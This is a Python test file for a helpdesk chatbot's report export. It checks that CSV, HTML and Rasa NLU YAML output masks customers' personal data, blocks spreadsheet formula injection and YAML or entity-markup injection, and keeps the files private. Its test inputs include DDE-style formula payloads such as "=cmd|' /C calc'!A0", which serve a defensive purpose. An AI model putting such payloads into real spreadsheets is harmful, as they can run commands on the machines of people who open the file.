"""Every file the report command writes (insights.export.write) is safe to open.

A tracker store (SQLite) is filled with customers' messages that carry personal data in
every disguise, spreadsheet formulas, control, format and bidi characters and Rasa markup;
the report is built from it and written; then every file is read back:

* no planted value survives (six of its digits in a row, or the e-mail address);
* no CSV cell starts with = + - @ tab or CR (each got an apostrophe);
* the NLU draft loads with PyYAML and with Rasa's own reader (.venv/rasa, in a subprocess)
  and holds exactly the examples expected, without entities;
* the folder is 0700 and every file 0600.

And a fuzz of the NLU draft alone: every C0, C1 and bidi character, YAML-significant text and
Rasa's entity markup.
"""

from __future__ import annotations

import csv
import html
import json
import re
import stat
import subprocess
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import yaml

from helpdesk.privacy import mask, published_contacts, write_private
from insights import export, report, source
from insights import html as report_html
from insights.report import NotUnderstood, Report
from tests.conftest import ROOT
from tests.unit.test_privacy import generated, leaks

BOGOTA = ZoneInfo("America/Bogota")
DAY = date(2026, 12, 7)
RASA_PYTHON = ROOT / ".venv" / "rasa" / "bin" / "python"
FORMULAS = ['=HYPERLINK("http://ejemplo.invalid/?x="&A1,"clic")', "+1+1 no me deja firmar", "-2+3 sigue caído",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 el token", "\r=1+1 la firma", "=1+1", "＝1+1 ancho"]
BIDI = ["\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
        "\u2069"]
CONTROLS = [chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]
OTHER_INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029", "\ud800", "\ufffe",
                   "\uffff", "\ue000"]
YAML_TEXT = [
    "hola: mundo", "clave: valor # comentario", "# todo es comentario", "- una lista", "- - dos niveles",
    "'comillas simples'", '"comillas dobles"', "{llave: valor}", "[lista, de, cosas]", "| bloque", "> plegado",
    "&ancla *alias", "!etiqueta valor", "%YAML 1.2", "--- documento", "... fin", "@arroba `tilde`",
    "version: \"3.1\"", "nlu:", "  - intent: inyectada", "examples: |", "hola\n  - intent: inyectada\n    examples: |\n      - x",
]
MARKUP = [
    "mi token [ePass](producto) no sirve", 'la [firma]{"entity": "servicio", "value": "x"} falla',
    "[a][b] y [c]({\"entity\": \"d\"})", "[x](y:z) sinónimo", "[documento](documento)", "texto \\u000a - intent: x",
    "texto \\u0001 raro", "\\U0001F600 emoji escapado", "[ancho]（producto）",
]


# ------------------------------------------------------------------ the tracker store


def _tracker(path: Path, conversations: list[tuple[str, str, bool]]) -> None:
    """One conversation per (sender, customer text, critical): the message was not understood
    (or settled a critical incident) and the assistant echoed it."""
    import sqlite3

    db = sqlite3.connect(path)
    db.executescript(
        "CREATE TABLE events (id INTEGER NOT NULL PRIMARY KEY, sender_id VARCHAR(255) NOT NULL, "
        "type_name VARCHAR(255) NOT NULL, timestamp FLOAT, intent_name VARCHAR(255), action_name VARCHAR(255), "
        "data TEXT);"
    )
    start = datetime(DAY.year, DAY.month, DAY.day, 21, 0, tzinfo=BOGOTA).timestamp()  # after hours
    rows = []
    for i, (sender, text, critical) in enumerate(conversations):
        ts = start + i * 5
        ranking = [{"name": "nlu_fallback", "confidence": 0.4}, {"name": "report_problem", "confidence": 0.3}]
        rows.append((sender, "user", ts, "nlu_fallback", None, {
            "event": "user", "timestamp": ts, "text": text,
            "parse_data": {"intent": {"name": "nlu_fallback"}, "intent_ranking": ranking}}))
        if critical:
            rows.append((sender, "slot", ts + 1, None, "problem_description",
                         {"event": "slot", "timestamp": ts + 1, "name": "problem_description", "value": text}))
            rows.append((sender, "slot", ts + 1, None, "answer_kind",
                         {"event": "slot", "timestamp": ts + 1, "name": "answer_kind",
                          "value": "critical_only_priority_line"}))
        else:
            rows.append((sender, "action", ts + 1, None, "action_default_fallback",
                         {"event": "action", "timestamp": ts + 1, "name": "action_default_fallback"}))
        rows.append((sender, "bot", ts + 2, None, None, {
            "event": "bot", "timestamp": ts + 2,
            "text": f"Entendí: «{text}». Para un incidente crítico llame a la línea 24/7 (57) 318 717 49 37."}))
    db.executemany("INSERT INTO events (sender_id, type_name, timestamp, intent_name, action_name, data) "
                   "VALUES (?, ?, ?, ?, ?, ?)", [(*row[:5], json.dumps(row[5])) for row in rows])
    db.commit()
    db.close()


def _letters(i: int) -> str:
    return "".join(chr(97 + int(d)) for d in str(i))


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """(planted values, files by name, output folder): the report of a day full of planted data."""
    tmp = tmp_path_factory.mktemp("report_files")
    cases = generated()[::4]  # every kind, a quarter of the generated set
    conversations = [(f"cliente-{_letters(i)}", sentence, i % 3 == 0) for i, (*_, sentence) in enumerate(cases)]
    conversations += [(f"formula-{_letters(i)}", text, i % 2 == 0) for i, text in enumerate(FORMULAS)]
    conversations += [(f"raro-{_letters(i)}", f"el token{ch}no firma {i}", False)
                      for i, ch in enumerate(CONTROLS + BIDI + OTHER_INVISIBLE)]
    conversations += [(f"yaml-{_letters(i)}", text, False) for i, text in enumerate(YAML_TEXT + MARKUP)]
    conversations.append(("=cmd|' /C calc'!A0", "hola, nadie me contesta", False))
    db = tmp / "tracker.db"
    _tracker(db, conversations)
    built = report.build(source.from_url(f"sqlite:///{db}"), DAY, DAY)
    out = tmp / "var" / "report"
    chart = tmp / "chart.umd.js"
    chart.write_text("/* Chart.js */", encoding="utf-8")
    original = report_html.CHART_JS
    report_html.CHART_JS = chart
    try:
        paths = export.write(built, out)
    finally:
        report_html.CHART_JS = original
    return cases, {p.name: p for p in paths}, out, built, db


def _chunks(path: Path) -> list[str]:
    """The texts a person reads in a file: CSV cells, HTML text nodes, YAML lines."""
    text = path.read_text(encoding="utf-8-sig")
    if path.suffix == ".csv":
        return [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    if path.suffix == ".html":
        return [html.unescape(t) for t in re.split(r"<[^>]*>", text)]
    return text.splitlines()


def test_no_planted_value_survives_in_any_file(written):
    cases, files, _, built, _ = written
    assert len(files) >= 4 + len(built.tables) and len(cases) >= 150
    published = {v for v in published_contacts() if "@" in v}
    found = []
    for name, path in files.items():
        if name.endswith(".js"):
            continue
        chunks = _chunks(path)
        for kind, value, written_as, _sentence in cases:
            for chunk in chunks:
                if leaks(kind, value, chunk):
                    found.append((name, kind, written_as, chunk))
        found += [(name, "address", a, "") for chunk in chunks for a in re.findall(r"[^\s«»\"'<>]+@[^\s«»\"'<>]+", chunk)
                  if a.rstrip(".,;") not in published]
    assert found == []


def test_the_transcripts_and_the_tables_carry_the_masked_messages(written):
    cases, files, _, built, _ = written
    page = files["report.html"].read_text(encoding="utf-8")
    hidden = [ch for ch in CONTROLS + BIDI + OTHER_INVISIBLE if ch not in "\n\t\r\ue000" and ch in page]
    assert hidden == []  # no control, format or bidi character in what a supervisor reads
    assert "[teléfono]" in page and "[documento]" in page and "[correo]" in page
    assert "(57) 318 717 49 37" in page  # the company's own number stays
    assert len(built.not_understood) > 100 and built.summary["critical"] > 30
    assert all(line.text == mask(line.text) or "318 717 49 37" in line.text
               for t in built.transcripts.values() for line in t.lines)


def test_no_csv_cell_starts_a_formula(written):
    _, files, _, _, _ = written
    cells = [cell for name, path in files.items() if name.endswith(".csv")
             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True)) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")] == []
    assert "'=HYPERLINK(\"http://ejemplo.invalid/?x=\"&A1,\"clic\")" in cells
    assert any(c.startswith("'-2+3") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    assert any(c.startswith("'=cmd") for c in cells)  # a conversation id chosen by a client
    assert not any("\x00" in c for c in cells)


def test_the_files_and_the_folder_are_private(written):
    _, files, out, _, _ = written
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700  # var/, created by the report
    assert {name: oct(stat.S_IMODE(p.stat().st_mode)) for name, p in files.items()} == {
        name: "0o600" for name in files}


def test_an_existing_report_file_is_made_private_when_written_again(tmp_path):
    out = tmp_path / "report"
    out.mkdir(mode=0o755)
    (out / "report.html").write_text("viejo", encoding="utf-8")
    (out / "report.html").chmod(0o644)
    built = Report(DAY, DAY, "prueba", datetime.now(BOGOTA), {}, {}, [], [], {})
    export.write_csv(built, out)
    write_private(out / "report.html", "nuevo")
    assert stat.S_IMODE((out / "report.html").stat().st_mode) == 0o600
    assert stat.S_IMODE(out.stat().st_mode) == 0o755  # a folder the caller chose outside var/ is left alone


# ------------------------------------------------------------------ the NLU draft


def _rasa_examples(path: Path) -> list[list]:
    """(text, intent, entities) of every example, as Rasa's own reader loads the file."""
    if not RASA_PYTHON.exists():
        pytest.skip(f"{RASA_PYTHON} is missing (make setup)")
    program = (
        "import json, sys\n"
        "from rasa.shared.nlu.training_data.loading import load_data\n"
        "data = load_data(sys.argv[1])\n"
        "print(json.dumps([[m.get('text'), m.get('intent'), m.get('entities') or []]"
        " for m in data.training_examples]))\n"
    )
    done = subprocess.run([str(RASA_PYTHON), "-c", program, str(path)], capture_output=True, text=True,
                          timeout=300, env={"RASA_TELEMETRY_ENABLED": "false", "PATH": "/usr/bin:/bin"})
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def _pyyaml_examples(draft: str) -> list[tuple[str, str]]:
    loaded = yaml.safe_load(draft)
    assert set(loaded) == {"version", "nlu"}
    out = []
    for block in loaded["nlu"]:
        assert set(block) == {"intent", "examples"}
        for line in block["examples"].splitlines():
            assert line.startswith("- "), line
            out.append((block["intent"], line[2:]))
    return out


def fuzz_texts() -> list[str]:
    texts = []
    for ch in CONTROLS + BIDI + OTHER_INVISIBLE:
        texts += [f"antes{ch}después {ord(ch):04x}", f"{ch}al inicio {ord(ch):04x}", f"al final {ord(ch):04x}{ch}"]
    texts.append("todo junto " + "".join(CONTROLS + BIDI + OTHER_INVISIBLE) + " fin")
    texts += YAML_TEXT + MARKUP + FORMULAS
    texts += [f"{y} {m}" for y in YAML_TEXT[:6] for m in MARKUP[:3]]
    return texts


def test_the_nlu_draft_always_loads_and_injects_nothing(tmp_path):
    items = [NotUnderstood(f"c{i}", datetime(2026, 12, 7, 22, tzinfo=BOGOTA), text, "greet\n- intent: x" if i % 7 else None)
             for i, text in enumerate(fuzz_texts())]
    built = Report(DAY, DAY, "prueba", datetime.now(BOGOTA), {}, {}, [], items, {})
    draft = export.nlu_draft(built)
    expected = []
    for item in items:
        line = export._example(item.text)
        if line and not line.startswith("/") and line.lower() not in {e.lower() for e in expected}:
            expected.append(line)
    assert len(expected) > 200
    forbidden = [ch for ch in CONTROLS + BIDI + OTHER_INVISIBLE if ch != "\n" and ch in draft]
    assert forbidden == []

    from_pyyaml = _pyyaml_examples(draft)
    assert {intent for intent, _ in from_pyyaml} == {export.UNLABELLED}
    assert sorted(text for _, text in from_pyyaml) == sorted(expected)

    path = tmp_path / "no_entendidos.nlu.yml"
    path.write_text(draft, encoding="utf-8")
    from_rasa = _rasa_examples(path)
    assert {intent for _, intent, _ in from_rasa} == {export.UNLABELLED}
    assert [entities for _, _, entities in from_rasa if entities] == []
    assert sorted(text for text, _, _ in from_rasa) == sorted(expected)


def test_rasa_reads_markup_and_a_control_character_as_the_issue_found_them(tmp_path):
    """The two failures of the old draft, shown on a hand-written file: they are real."""
    path = tmp_path / "old.yml"
    path.write_text('version: "3.1"\nnlu:\n  - intent: x\n    examples: |\n      - mi [token](producto) falla\n',
                    encoding="utf-8")
    assert _rasa_examples(path)[0][2] != []  # an entity was injected
    with pytest.raises(yaml.YAMLError):
        yaml.safe_load('nlu:\n  - intent: x\n    examples: |\n      - hola\x01\n')


def test_the_report_files_nlu_draft_loads_in_rasa(written):
    _, files, _, built, _ = written
    draft = files["no_entendidos.nlu.yml"]
    from_rasa = _rasa_examples(draft)
    assert len(from_rasa) > 100 and [e for _, _, e in from_rasa if e] == []
    assert sorted(t for t, _, _ in from_rasa) == sorted(t for _, t in _pyyaml_examples(draft.read_text("utf-8")))


# ------------------------------------------------------------------ the same data in the desk


@pytest.mark.slow
def test_a_supervisor_reads_the_same_conversations_masked_in_the_desk(written, tmp_path):
    """The desk shows supervisors the report and any transcript through insights (helpdesk.privacy.mask)."""
    from tests.desk_support import Agent, running_desk
    from tools import stack

    cases, _, _, built, db = written
    with running_desk(tmp_path, extra_env={"DESK_TRACKER_STORE": f"sqlite:///{db}"}) as (desk, _rasa):
        password = "carla-clave-de-prueba-2026-larga"
        stack.add_desk_agent(desk.db, "carla", "Carla", "supervisora", password, supervisor=True)
        carla = Agent(desk)
        assert carla.login("carla", password).status_code == 200
        pages = []
        for cid in list(built.transcripts)[:40]:
            page = carla.http.get(f"{desk.url}/supervision/conversacion", params={"id": cid}, timeout=30)
            assert page.status_code == 200, page.text[:300]
            pages.append(page.text)
        report_page = carla.http.get(f"{desk.url}/supervision/informe",
                                     params={"desde": DAY.isoformat(), "hasta": DAY.isoformat()}, timeout=120)
        assert report_page.status_code == 200, report_page.text[:300]
        pages.append(report_page.text)
    assert any("[teléfono]" in page or "[documento]" in page for page in pages[:-1])
    chunks = [html.unescape(t) for page in pages for t in re.split(r"<[^>]*>", page)]
    found = [(kind, written_as) for kind, value, written_as, _ in cases for chunk in chunks if leaks(kind, value, chunk)]
    assert found == []


def test_the_default_report_folder_and_var_are_made_private(tmp_path, monkeypatch):
    root = tmp_path / "proyecto"
    (root / "var" / "report").mkdir(parents=True)
    (root / "var").chmod(0o755)
    (root / "var" / "report").chmod(0o755)
    monkeypatch.setattr(export, "ROOT", root)
    chart = tmp_path / "chart.umd.js"
    chart.write_text("/* Chart.js */", encoding="utf-8")
    monkeypatch.setattr(report_html, "CHART_JS", chart)
    built = Report(DAY, DAY, "prueba", datetime.now(BOGOTA), {"conversations": 0}, {}, [], [], {})
    monkeypatch.setattr(report_html, "render", lambda _report: "<html></html>")
    export.write(built, root / "var" / "report")
    assert stat.S_IMODE((root / "var").stat().st_mode) == 0o700
    assert stat.S_IMODE((root / "var" / "report").stat().st_mode) == 0o700
